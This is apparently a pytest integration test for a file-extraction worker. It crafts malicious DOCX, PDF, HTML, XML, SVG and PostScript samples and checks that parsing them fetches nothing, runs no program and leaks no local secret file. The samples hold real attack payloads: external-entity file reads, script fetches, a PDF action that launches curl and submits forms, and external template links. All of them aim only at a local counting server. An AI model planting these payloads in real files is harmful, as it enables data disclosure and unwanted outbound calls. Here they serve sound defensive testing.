"""Files that would make a reader fetch, run or reveal something: nothing is called, started or revealed.

Each is read without a sandbox here, whose missing network would hide what a parser tries.
"""

from __future__ import annotations

import io
import os
import socket
import threading
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from tests.integration.sandbox.conftest import options
from worker.errors import RejectedError
from worker.extract.extractors import EXTRACTORS
from worker.extract.page_source import LayeredPage
from worker.extract.type_detection import detect_file_type
from worker.models.page import Page

pytestmark = pytest.mark.integration

_SECRET = "a-secret-of-this-machine"
_RUNNERS = ("gs", "gsc", "ps2pdf", "xdg-open", "sensible-browser", "curl", "wget", "convert", "java", "node")
_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/word/document.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)
_KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_DOCUMENT = (
    '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "{file}"><!ENTITY y SYSTEM "{url}/entity">]>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
    "<w:body><w:p><w:r><w:t>VISIBLE &x;&y;</w:t></w:r>"
    '<w:r><w:drawing><a:blip r:link="rId2"/></w:drawing></w:r></w:p></w:body></w:document>'
)
_MARKUP = (
    '<?xml version="1.0"?><?xml-stylesheet href="{url}/sheet"?>'
    '<!DOCTYPE html [<!ENTITY x SYSTEM "{file}"><!ENTITY % p SYSTEM "{url}/dtd"> %p;]>'
    '<html xmlns="http://www.w3.org/1999/xhtml" xmlns:xi="http://www.w3.org/2001/XInclude">'
    '<link rel="stylesheet" href="{url}/css"/><script src="{url}/js">fetch("{url}/run")</script>'
    '<xi:include href="{file}" parse="text"/><img src="{url}/image"/><p>VISIBLE &x;</p></html>'
)
_SVG = (
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "{file}">]>'
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
    '<image xlink:href="{url}/image"/><script>fetch("{url}/run")</script><text>VISIBLE &x;</text></svg>'
)
_POSTSCRIPT = "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\n({file}) (r) file pop\nshowpage\n%%EOF\n"


def docx(url: str, file: str) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("[Content_Types].xml", _TYPES)
        main = f'<Relationship Id="rId1" Type="{_KIND}officeDocument" Target="word/document.xml"/>'
        archive.writestr("_rels/.rels", _RELATIONS.format(main))
        outside = "".join(
            f'<Relationship Id="rId{number}" Type="{_KIND}{kind}" Target="{url}/{kind}" '
            'TargetMode="External"/>'
            for number, kind in enumerate(("image", "attachedTemplate", "oleObject", "subDocument"), start=2)
        )
        archive.writestr("word/_rels/document.xml.rels", _RELATIONS.format(outside))
        archive.writestr("word/document.xml", _DOCUMENT.format(url=url, file=file))
    return packed.getvalue()


def pdf(url: str, _file: str) -> bytes:
    """What acts by itself: scripts, links, programs, forms."""
    content = b"BT /F1 24 Tf 20 100 Td (VISIBLE words on a page, enough of them) Tj ET"
    objects = [
        "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 7 0 R >> "
        "/Names << /JavaScript << /Names [(a) 6 0 R] >> >> >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 200] /Contents 4 0 R /AA << /O 7 0 R >> "
        "/Resources << /Font << /F1 5 0 R >> >> /Annots [<< /Type /Annot /Subtype /Link "
        "/Rect [0 0 600 200] /A 7 0 R /PA 8 0 R >>] >>",
        f"<< /Length {len(content)} >>\nstream\n{content.decode()}\nendstream",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        f"<< /S /JavaScript /JS (app.launchURL\\('{url}/js'\\); this.submitForm\\('{url}/form'\\);) >>",
        f"<< /S /URI /URI ({url}/uri) /Next 8 0 R >>",
        f"<< /S /Launch /F (/usr/bin/curl) /Next << /S /SubmitForm /F << /FS /URL /F ({url}/submit) >> >> >>",
    ]
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode()
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    size = len(objects) + 1
    end = f"xref\n0 {size}\n0000000000 65535 f \n{table}trailer << /Size {size} /Root 1 0 R >>\n"
    return out + f"{end}startxref\n{len(out)}\n%%EOF".encode()


_FILES: dict[str, Callable[[str, str], bytes]] = {
    "outside.docx": docx,
    "actions.pdf": pdf,
    "page.html": lambda url, file: _MARKUP.replace("{url}", url).replace("{file}", file).encode(),
    "data.xml": lambda url, file: _MARKUP.replace("{url}", url).replace("{file}", file).encode(),
    "picture.svg": lambda url, file: _SVG.replace("{url}", url).replace("{file}", file).encode(),
    "picture.eps": lambda _, file: _POSTSCRIPT.format(file=file).encode(),
    "picture.jpg": lambda _, file: _POSTSCRIPT.format(file=file).encode(),
}


class CallCounter:
    """A server that counts the connections."""

    def __init__(self) -> None:
        self.count = 0
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self._socket.getsockname()[1]}"
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                caller, _ = self._socket.accept()
            except OSError:
                return
            self.count += 1
            caller.close()

    def close(self) -> None:
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()


@pytest.fixture
def calls() -> Iterator[CallCounter]:
    server = CallCounter()
    yield server
    server.close()


@pytest.fixture
def traces(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A file in which programs that no reader needs leave a line when they are started."""
    folder, mark = tmp_path / "runners", tmp_path / "started"
    folder.mkdir()
    for name in _RUNNERS:
        (folder / name).write_text(f'#!/bin/sh\necho "$0 $*" >> {mark}\n')
        (folder / name).chmod(0o755)
    monkeypatch.setenv("PATH", f"{folder}{os.pathsep}{os.environ['PATH']}")
    return mark


def all_text(path: Path, scratch: Path) -> str:
    """Everything a reader gets out of a file: text, pictures for recognition, preview."""
    extractor = EXTRACTORS.get(detect_file_type(path, path.name))
    if extractor is None:
        return ""
    try:
        source = extractor(path, options())
        items = list(source.pages)
        source.preview()
        for item in items:
            if not isinstance(item, Page):
                source.render(item if isinstance(item, int) else item.page.number, scratch)
    except RejectedError:
        return ""
    layers = (item.page if isinstance(item, LayeredPage) else item for item in items)
    return " ".join(page.text for page in layers if isinstance(page, Page))


@pytest.mark.parametrize("name", _FILES)
def test_a_file_fetches_nothing_runs_nothing_and_reveals_nothing(
    name: str, calls: CallCounter, traces: Path, tmp_path: Path
) -> None:
    (tmp_path / "secret").write_text(_SECRET)
    path = tmp_path / name
    path.write_bytes(_FILES[name](calls.url, (tmp_path / "secret").as_uri()))
    text = all_text(path, tmp_path)
    if name in ("outside.docx", "actions.pdf"):
        assert "VISIBLE" in text, "it was read at all"
    assert _SECRET not in text
    assert calls.count == 0
    assert not traces.exists()


def test_the_server_would_have_counted_a_call(calls: CallCounter) -> None:
    port = int(calls.url.rpartition(":")[2])
    with socket.create_connection(("127.0.0.1", port)) as caller:
        assert caller.recv(1) == b""
    assert calls.count == 1
